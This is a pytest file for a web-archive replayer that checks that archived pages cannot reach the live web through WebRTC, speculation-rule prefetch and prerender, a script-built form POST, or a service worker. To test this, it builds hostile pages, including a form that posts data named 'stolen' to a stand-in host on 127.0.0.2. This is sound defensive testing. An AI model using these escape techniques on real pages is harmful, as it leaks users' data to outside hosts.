"""Replay's seals in a real Chromium (issue 32, findings 5, 6, 7): archived pages that try
WebRTC (UDP to any host), speculation rules (prefetch and prerender of another site), a
script-built form POST and a service worker, replayed by `mirror serve`, opened from a
folder export on file:// and served by kiwix-serve from a ZIM. A loopback UDP socket (the
STUN server) and an HTTP listener on 127.0.0.2 (another site: "the live web") must see
nothing. Each escape is first shown to work from the live site itself, so that a listener
that sees nothing proves the seal, not a broken test."""

from __future__ import annotations

import asyncio
import json
import socket
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from conftest import Crawl, TestSite
from replayers import chromium

from mirror.cli.main import main
from mirror.replay.captures import CaptureIndex
from mirror.replay.export import export_folder
from mirror.replay.exportpath import export_path
from mirror.replay.serve import Site, make_app, start_replay_server
from mirror.webapp import start_app

pytestmark = pytest.mark.browser

SETTLE = 3.0  # seconds a page has to try; the live control shows each escape within it


@dataclass
class Listeners:
    """A STUN server's UDP socket on 127.0.0.1 and 'the live web' on 127.0.0.2."""

    udp: socket.socket
    live: str = ""
    hits: list[str] = field(default_factory=list)

    @property
    def stun(self) -> str:
        return f"stun:127.0.0.1:{self.udp.getsockname()[1]}"

    def datagrams(self) -> int:
        count = 0
        while True:
            try:
                self.udp.recv(4096)
            except BlockingIOError:
                return count
            count += 1

    def clear(self) -> None:
        self.datagrams()
        self.hits.clear()


@pytest.fixture
async def listeners() -> AsyncIterator[Listeners]:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.setblocking(False)
    found = Listeners(udp)

    async def live(request: web.Request) -> web.Response:
        found.hits.append(request.path_qs)
        return web.Response(text="the live web", content_type="text/html")

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", live)
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.2", 0).start()
    found.live = f"http://127.0.0.2:{runner.addresses[0][1]}/"
    try:
        yield found
    finally:
        await runner.cleanup()
        udp.close()


def rtc_page(stun: str) -> str:
    """A page that makes peer connections from itself and from same-origin frames."""
    make = ("function(C){var pc=new C({iceServers:[{urls:'" + stun + "'}]});"
            "pc.createDataChannel('x');pc.createOffer().then(function(o){"
            "return pc.setLocalDescription(o)});return 'made'}")
    inner = (f"<script>var make={make};try{{parent.postMessage('srcdoc '+"
             "make(RTCPeerConnection),'*')}catch(e){parent.postMessage('srcdoc refused','*')}"
             "</scr'+'ipt>")
    return ("<!doctype html><html><head><title>rtc</title></head><body><p>rtc</p><script>"
            f"var make={make};var tries={{}};"
            "function attempt(name,get){try{tries[name]=make(get())}catch(e){tries[name]="
            "'refused'}}"
            "attempt('window',function(){return window.RTCPeerConnection});"
            "attempt('webkit',function(){return window.webkitRTCPeerConnection});"
            "var f=document.createElement('iframe');document.body.appendChild(f);"
            "attempt('contentWindow',function(){return f.contentWindow.RTCPeerConnection});"
            "var g=document.createElement('iframe');document.body.append(g);"
            "attempt('frames',function(){return frames[1].RTCPeerConnection});"
            "addEventListener('message',function(e){tries.srcdoc=e.data;"
            "document.body.dataset.tries=JSON.stringify(tries)});"
            f"var h=document.createElement('iframe');h.srcdoc={json.dumps(inner)};"
            "document.body.appendChild(h);"
            "var d=document.createElement('iframe');d.src='data:text/html,"
            "<script>new RTCPeerConnection({iceServers:[{urls:\"" + stun + "\"}]})"
            ".createOffer()</scr'+'ipt>';document.body.appendChild(d);"
            "document.body.dataset.tries=JSON.stringify(tries);</script></body></html>")


def speculation_page(live: str) -> str:
    rules = ("{prefetch:[{source:'list',urls:['" + live + "prefetch-KIND'],eagerness:'immediate'}],"
             "prerender:[{source:'list',urls:['" + live + "prerender-KIND'],"
             "eagerness:'immediate'}]}")
    static = rules.replace("KIND", "static").replace("'", '"')
    return ("<!doctype html><html><head><title>speculation</title>"
            f'<script type="speculationrules">{_json(static)}</script></head><body><script>'
            "var a=document.createElement('script');a.type='speculationrules';"
            f"a.textContent=JSON.stringify({rules.replace('KIND', 'type')});"
            "document.head.append(a);"
            "var b=document.createElement('script');b.setAttribute('type','speculationrules');"
            f"b.textContent=JSON.stringify({rules.replace('KIND', 'attribute')});"
            "document.head.appendChild(b);</script></body></html>")


def _json(js_object: str) -> str:
    return js_object.replace("{prefetch", '{"prefetch"').replace("prerender:", '"prerender":') \
        .replace("source:", '"source":').replace("urls:", '"urls":') \
        .replace("eagerness:", '"eagerness":')


def form_page(live: str) -> str:
    return ("<!doctype html><html><head><title>form</title></head><body><script>"
            "var f=document.createElement('form');f.method='post';"
            f"f.action='{live}form';var i=document.createElement('input');i.name='stolen';"
            "i.value=document.title;f.appendChild(i);document.body.appendChild(f);"
            "f.submit();</script></body></html>")


def worker_page() -> str:
    return ("<!doctype html><html><head><title>worker</title></head><body><script>"
            "navigator.serviceWorker.register('sw.js').then(function(){"
            "document.body.dataset.sw='registered'},function(e){"
            "document.body.dataset.sw='refused'});</script></body></html>")


def worker_script(live: str) -> str:
    return (f"self.addEventListener('install',function(){{fetch('{live}sw-install')}});"
            f"fetch('{live}sw-start');")


HOSTILE = ("rtc.html", "speculation.html", "form.html")


def hostile_site(site: TestSite, found: Listeners) -> None:
    links = "".join(f'<a href="{name}">{name}</a> ' for name in (*HOSTILE, "worker.html", "sw.js"))
    site.page("/", f"<!doctype html><html><head><title>hostile</title></head><body>{links}"
                   "</body></html>")
    site.page("/rtc.html", rtc_page(found.stun))
    site.page("/speculation.html", speculation_page(found.live))
    site.page("/form.html", form_page(found.live))
    site.page("/worker.html", worker_page())
    site.page("/sw.js", worker_script(found.live), content_type="text/javascript")


@pytest.fixture
async def hostile(make_site: Callable[[], Awaitable[TestSite]], listeners: Listeners,
                  crawl: Callable[..., Awaitable[Crawl]]) -> tuple[TestSite, Crawl]:
    site = await make_site()
    hostile_site(site, listeners)
    done = await crawl([site.base])
    return site, done


@asynccontextmanager
async def browser_page() -> AsyncIterator[Any]:
    async with chromium() as browser:
        context = await browser.new_context()
        try:
            yield await context.new_page()
        finally:
            await context.close()


async def visit(page: Any, url: str, found: Listeners) -> None:
    found.clear()
    errors: list[str] = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    await page.goto(url, wait_until="commit")
    await asyncio.sleep(SETTLE)
    assert not [e for e in errors if "redefine" in e], errors  # the seal's own


async def test_the_live_pages_do_escape(
        make_site: Callable[[], Awaitable[TestSite]], listeners: Listeners) -> None:
    """The control: opened from the live site, each page reaches the listeners."""
    site = await make_site()
    hostile_site(site, listeners)
    async with browser_page() as page:
        await visit(page, f"{site.base}rtc.html", listeners)
        assert listeners.datagrams() > 0
        await visit(page, f"{site.base}speculation.html", listeners)
        assert {"/prefetch-type", "/prefetch-attribute", "/prefetch-static"} <= set(listeners.hits)
        await visit(page, f"{site.base}form.html", listeners)
        assert "/form" in listeners.hits


async def test_serve_seals_webrtc_speculation_and_forms(
        hostile: tuple[TestSite, Crawl], listeners: Listeners) -> None:
    """`mirror serve` (a page under the banner; its mp_ address opened on its own comes back
    under it, origins.py), and a server of one origin where a page is top-level (as on
    --lan, where browsers send no Sec-Fetch-Dest)."""
    site, done = hostile
    before = len(site.log)
    runner, base = await start_replay_server(done.archive, Site("hostile"))
    alone, single = await start_app(make_app(done.archive, Site("hostile")), "127.0.0.1", 0)
    try:
        async with browser_page() as page:
            for server in (base, single):
                for name in HOSTILE:  # under the banner, then top-level (mp_)
                    for mode in ("", "mp_"):
                        await visit(page, f"{server}2{mode}/{site.base}{name}", listeners)
                        assert (name, listeners.datagrams(), listeners.hits) == (name, 0, [])
            await visit(page, f"{single}2mp_/{site.base}rtc.html", listeners)
            tries = await page.evaluate("document.body.dataset.tries")
            assert listeners.datagrams() == 0, tries
            assert "made" not in tries, tries
    finally:
        await runner.cleanup()
        await alone.cleanup()
    assert site.log[before:] == []


async def test_folder_export_seals_webrtc_speculation_and_forms(
        hostile: tuple[TestSite, Crawl], listeners: Listeners, tmp_path: Path) -> None:
    site, done = hostile
    out = tmp_path / "export"
    export_folder(CaptureIndex.load(done.archive), out)
    before = len(site.log)
    async with browser_page() as page:
        for name in HOSTILE:
            path = out / export_path(f"{site.base}{name}", "text/html")
            await visit(page, path.as_uri(), listeners)
            assert (name, listeners.datagrams(), listeners.hits) == (name, 0, [])
        tries = None
    assert site.log[before:] == [], tries


async def test_kiwix_serve_refuses_an_archived_service_worker(
        hostile: tuple[TestSite, Crawl], listeners: Listeners, tmp_path: Path) -> None:
    """An archived page registers an archived sw.js: in kiwix-serve (one origin for every
    book, served over http) it would outlive the page and fetch from the network."""
    pytest.importorskip("libzim", reason="pip install -e '.[zim]'")
    from test_zim import kiwix_serve

    site, done = hostile
    out = tmp_path / "hostile.zim"
    assert main(["export", str(done.root / "site.toml"), "--zim", str(out)]) == 0
    async with kiwix_serve(out) as base, browser_page() as page:
        path = export_path(f"{site.base}worker.html", "text/html")
        await visit(page, f"{base}content/hostile/{path}", listeners)
        if await page.title() != "worker":  # kiwix-serve 3.3 names books without /content
            await visit(page, f"{base}hostile/{path}", listeners)
        assert await page.title() == "worker"
        assert await page.evaluate("document.body.dataset.sw") == "refused"
        assert await page.evaluate("navigator.serviceWorker.getRegistrations()"
                                   ".then(r => r.length)") == 0
        for name in HOSTILE:
            url = f"{base}hostile/{export_path(f'{site.base}{name}', 'text/html')}"
            await visit(page, url, listeners)
            assert (name, listeners.datagrams(), listeners.hits) == (name, 0, [])
